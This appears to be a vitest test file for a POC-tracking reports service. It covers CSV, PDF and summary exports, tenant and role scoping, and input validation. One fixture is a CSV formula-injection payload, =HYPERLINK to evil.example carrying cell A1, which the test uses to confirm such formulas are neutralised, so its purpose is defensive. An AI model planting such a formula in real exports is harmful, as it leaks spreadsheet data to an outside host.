import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Poc, ReportSummary } from '@poc/contracts';
import { CSV_COLUMNS, CSV_LIST_SEPARATOR } from '../export/csv.ts';
import { type ReportsHarness, type TestUser, startReports } from '../testing/harness.ts';

let h: ReportsHarness;
let owner: TestUser;
let member: TestUser;
let analyst: TestUser;
let admin: TestUser;
let stranger: TestUser;
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

const create = async (user: TestUser, payload: Record<string, unknown>) => {
  const res = await h.pocs.inject({ method: 'POST', url: '/v1/pocs', headers: user.auth, payload });
  expect(res.statusCode, res.body).toBe(201);
  return res.json<{ id: string; version: number }>();
};
const get = (user: TestUser, url: string) => h.reports.inject({ method: 'GET', url, headers: user.auth });

/** Every POC `GET /v1/pocs` finds for these filters, all pages. */
async function searched(user: TestUser, qs: string): Promise<Poc[]> {
  const found: Poc[] = [];
  let cursor: string | null = null;
  do {
    const res: Awaited<ReturnType<typeof h.query.inject>> = await h.query.inject({ method: 'GET', url: `/v1/pocs?${qs}&limit=3${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`, headers: user.auth });
    expect(res.statusCode, res.body).toBe(200);
    const body: { items: (Poc & { highlight?: unknown })[]; nextCursor: string | null } = res.json();
    found.push(...body.items.map(({ highlight: _, ...poc }) => poc));
    cursor = body.nextCursor;
  } while (cursor);
  return found;
}

/** The CSV read back with csv-parse, each row as the POC it stands for (the `'` before a formula-like cell taken off). */
function parsedCsv(body: string): Poc[] {
  const rows = parse(body, { columns: true, bom: true, relax_quotes: false }) as Record<string, string>[];
  const plain = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
  return rows.map((r) => {
    const list = (cell: string) => (cell === '' ? [] : plain(cell).split(CSV_LIST_SEPARATOR));
    const nullable = (cell: string) => (cell === '' ? null : plain(cell));
    return {
      id: r.id!,
      name: plain(r.name!),
      description: plain(r.description!),
      status: r.status as Poc['status'],
      languages: list(r.languages!),
      tags: list(r.tags!),
      repoUrl: nullable(r.repoUrl!),
      startedAt: nullable(r.startedAt!),
      finishedAt: nullable(r.finishedAt!),
      createdAt: r.createdAt!,
      updatedAt: r.updatedAt!,
      createdBy: r.createdBy!,
      version: Number(r.version),
    };
  });
}

beforeAll(async () => {
  h = await startReports();
  const tenantId = randomUUID();
  owner = await h.user(['owner'], tenantId);
  member = await h.user(['member'], tenantId);
  analyst = await h.user(['analyst'], tenantId);
  admin = await h.user(['admin'], tenantId);
  stranger = await h.user(['owner']);
  await create(owner, { name: 'Integração contínua em São Paulo', description: 'Pipelines, "aspas", vírgulas,\nand a second line.', languages: ['Groovy'], tags: ['ci', 'devops'], status: 'done' });
  await create(owner, { name: 'Kubernetes operator', languages: ['Go'], tags: ['kubernetes', 'infra'], status: 'in_progress', repoUrl: 'https://github.com/acme/operator' });
  await create(member, { name: HYPERLINK, description: '+1 from the team; @here -- see notes', languages: ['Go', 'Rust'], tags: ['security'] });
  await create(member, { name: 'Análise de métricas', languages: ['Python'], tags: ['data', 'ci'], status: 'abandoned' });
  for (let i = 0; i < 9; i++) await create(admin, { name: `Spike ${i} ação`, languages: i % 2 ? ['TypeScript'] : ['Go'], tags: ['spike'] });
  await create(stranger, { name: 'Another tenant kubernetes secret', languages: ['Go'], tags: ['ci'] });
  await h.settle();
});
afterAll(async () => {
  await h?.close();
});

describe('GET /v1/reports/pocs.csv', () => {
  const filters = ['', 'language=GO', 'tag=ci', 'tag=ci&tag=devops', 'status=done', 'q=kubernets', 'name=spike', 'language=go&sort=name', `from=${encodeURIComponent(new Date(Date.now() - 3_600_000).toISOString())}`];
  for (const qs of filters) {
    it(`parses back to exactly what GET /v1/pocs finds for "${qs || 'no filter'}", in its order`, async () => {
      const res = await get(owner, `/v1/reports/pocs.csv?${qs}`);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
      const expected = await searched(owner, qs);
      expect(expected.length).toBeGreaterThan(0);
      expect(parsedCsv(res.body)).toEqual(expected);
    });
  }

  it('is RFC 4180: a header row, CRLF line ends, quotes doubled, line breaks kept inside quotes; no BOM unless asked', async () => {
    const res = await get(owner, '/v1/reports/pocs.csv?tag=devops');
    expect(res.body.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
    expect(res.body).toContain('"Pipelines, ""aspas"", vírgulas,\nand a second line."');
    expect(res.body.charCodeAt(0)).not.toBe(0xfeff);
    const bom = await get(owner, '/v1/reports/pocs.csv?tag=devops&bom=true');
    expect(bom.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(parsedCsv(bom.body)).toEqual(parsedCsv(res.body));
  });

  it('with nothing found, is the header row alone', async () => {
    const res = await get(owner, '/v1/reports/pocs.csv?tag=nothing-has-this');
    expect(res.statusCode).toBe(200);
    expect(res.body).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('neutralises formulas: =HYPERLINK(...) and cells starting with +, @ or - come out as text', async () => {
    const rows = parse((await get(owner, '/v1/reports/pocs.csv?tag=security')).body, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0]!.name).toBe(`'${HYPERLINK}`);
    expect(rows[0]!.description).toBe("'+1 from the team; @here -- see notes");
    for (const cell of Object.values(rows[0]!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("gives a member their own POCs only, whatever the filters; never another tenant's", async () => {
    const mine = parsedCsv((await get(member, '/v1/reports/pocs.csv')).body);
    expect(mine.map((p) => p.createdBy)).toEqual([member.userId, member.userId]);
    const q = parsedCsv((await get(member, '/v1/reports/pocs.csv?q=kubernetes')).body);
    expect(q).toEqual([]);
    const all = parsedCsv((await get(owner, '/v1/reports/pocs.csv')).body);
    expect(all).toHaveLength(13);
    expect(all.some((p) => p.name.includes('Another tenant'))).toBe(false);
  });

  it('bad input is a problem+json naming the field', async () => {
    for (const [qs, field] of [
      ['status=nope', 'status'],
      ['from=yesterday', 'from'],
      ['to=2020-01-01T00:00:00Z&from=2021-01-01T00:00:00Z', 'to'],
      ['bom=maybe', 'bom'],
      ['limit=5', 'limit'],
    ] as const) {
      const res = await get(owner, `/v1/reports/pocs.csv?${qs}`);
      expect(res.statusCode, qs).toBe(400);
      expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
      expect(JSON.stringify(res.json().errors), qs).toContain(field);
    }
  });
});

describe('OpenAPI', () => {
  it('documents every reports route', async () => {
    const doc = (await h.reports.inject({ method: 'GET', url: '/openapi.json' })).json<{ paths: Record<string, unknown> }>();
    expect(Object.keys(doc.paths)).toEqual(
      expect.arrayContaining(['/v1/reports/pocs.csv', '/v1/reports/pocs.pdf', '/v1/reports/summary', '/v1/reports/rebuilds', '/v1/reports/rebuilds/{id}']),
    );
  });
});

describe('GET /v1/reports/summary', () => {
  it("counts the tenant's POCs by month, language, tag, status and member (a member: their own, scope own)", async () => {
    const s = (await get(analyst, '/v1/reports/summary')).json<ReportSummary>();
    expect(s.scope).toBe('tenant');
    expect(s.totals).toEqual({ pocs: 13, languages: 5, tags: 7, members: 3 });
    expect(s.byMonth).toEqual([{ month: new Date().toISOString().slice(0, 7), count: 13 }]);
    expect(s.byLanguage[0]).toEqual({ value: 'go', count: 7 });
    expect(s.byTag.slice(0, 2)).toEqual([{ value: 'spike', count: 9 }, { value: 'ci', count: 2 }]);
    expect(s.byStatus).toEqual([
      { value: 'idea', count: 10 },
      { value: 'in_progress', count: 1 },
      { value: 'done', count: 1 },
      { value: 'abandoned', count: 1 },
    ]);
    expect(s.byMember).toEqual([{ userId: admin.userId, count: 9 }, { userId: member.userId, count: 2 }, { userId: owner.userId, count: 2 }].sort((a, b) => b.count - a.count || (a.userId < b.userId ? -1 : 1)));
    const own = (await get(member, '/v1/reports/summary')).json<ReportSummary>();
    expect(own.scope).toBe('own');
    expect(own.totals.pocs).toBe(2);
    expect(own.byMember).toEqual([{ userId: member.userId, count: 2 }]);
    const other = (await get(stranger, '/v1/reports/summary')).json<ReportSummary>();
    expect(other.totals.pocs).toBe(1);
  });

  it('bad input is a problem+json naming the field', async () => {
    const future = new Date(Date.now() + 86_400_000).toISOString();
    for (const [qs, field] of [['asOf=soon', 'asOf'], [`asOf=${encodeURIComponent(future)}`, 'asOf'], ['from=2021-01-01T00:00:00Z&to=2020-01-01T00:00:00Z', 'to'], ['team=x', 'team']] as const) {
      const res = await get(owner, `/v1/reports/summary?${qs}`);
      expect(res.statusCode, qs).toBe(400);
      expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
      expect(JSON.stringify(res.json().errors), qs).toContain(field);
    }
  });
});

describe('GET /v1/reports/pocs.pdf', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'reports-pdf-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const text = (pdf: Buffer) => {
    const file = join(dir, `${randomUUID()}.pdf`);
    writeFileSync(file, pdf);
    return execFileSync('pdftotext', ['-layout', '-enc', 'UTF-8', file, '-'], { encoding: 'utf8' });
  };
  const total = (txt: string, label: string) => Number(new RegExp(`^\\s*${label}\\s+(\\d+)\\s*$`, 'm').exec(txt)?.[1]);

  it('opens; pdftotext finds the POC names with their accents, and the totals are the summary\'s', async () => {
    const year = new Date().getUTCFullYear();
    const res = await get(owner, `/v1/reports/pocs.pdf?year=${year}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    const txt = text(res.rawPayload);
    for (const name of ['Integração contínua em São Paulo', 'Análise de métricas', 'Spike 3 ação', 'Kubernetes operator']) expect(txt).toContain(name);
    expect(txt).not.toContain('Another tenant');
    const s = (await get(owner, `/v1/reports/summary?from=${year}-01-01T00:00:00Z&to=${year + 1}-01-01T00:00:00Z`)).json<ReportSummary>();
    expect(total(txt, 'POCs')).toBe(s.totals.pocs);
    expect(total(txt, 'Languages')).toBe(s.totals.languages);
    expect(total(txt, 'Tags')).toBe(s.totals.tags);
    expect(total(txt, 'Members')).toBe(s.totals.members);
    expect(total(txt, 'Status: Done')).toBe(1);
    expect(total(txt, 'Dojos held')).toBe(s.dojos.held);
  });

  it("a member's report lists their own POCs; a past year lists none", async () => {
    const year = new Date().getUTCFullYear();
    const txt = text((await get(member, `/v1/reports/pocs.pdf?year=${year}`)).rawPayload);
    expect(txt).toContain('Análise de métricas');
    expect(txt).not.toContain('Kubernetes operator');
    expect(total(txt, 'POCs')).toBe(2);
    const past = text((await get(owner, '/v1/reports/pocs.pdf?year=2001')).rawPayload);
    expect(total(past, 'POCs')).toBe(0);
    expect(past).not.toContain('Kubernetes operator');
  });

  it('bad input is a problem+json naming the field', async () => {
    for (const [qs, field] of [['year=1999', 'year'], ['year=2024&from=2024-01-01T00:00:00Z', 'year'], ['from=2024-02-01T00:00:00Z&to=2024-01-01T00:00:00Z', 'to']] as const) {
      const res = await get(owner, `/v1/reports/pocs.pdf?${qs}`);
      expect(res.statusCode, qs).toBe(400);
      expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
      expect(JSON.stringify(res.json().errors), qs).toContain(field);
    }
  });
});
